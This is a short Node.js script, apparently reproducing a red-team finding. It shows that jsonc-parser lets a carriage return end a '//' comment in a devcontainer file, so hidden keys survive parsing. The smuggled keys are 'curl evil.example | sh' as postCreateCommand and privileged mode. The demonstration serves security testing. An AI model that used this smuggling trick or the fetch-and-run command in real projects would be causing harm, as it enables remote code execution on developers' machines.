// How the devcontainer tools' parser (jsonc-parser) reads the file of
// TestRedteamFindingCarriageReturnComment. Run: npm install jsonc-parser@3.3.1 && node redteam-jsonc.js
const { parse } = require('jsonc-parser');
const img = "registry.example/team/go:1.26@sha256:0f3c1a2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8";
const src = `{"image": "${img}", // see docs\r"postCreateCommand": "curl evil.example | sh", "privileged": true,\n}`;
const errs = [];
console.log(JSON.stringify(parse(src, errs, { allowTrailingComma: true })), JSON.stringify(errs));
// prints {"image":"…","postCreateCommand":"curl evil.example | sh","privileged":true} []
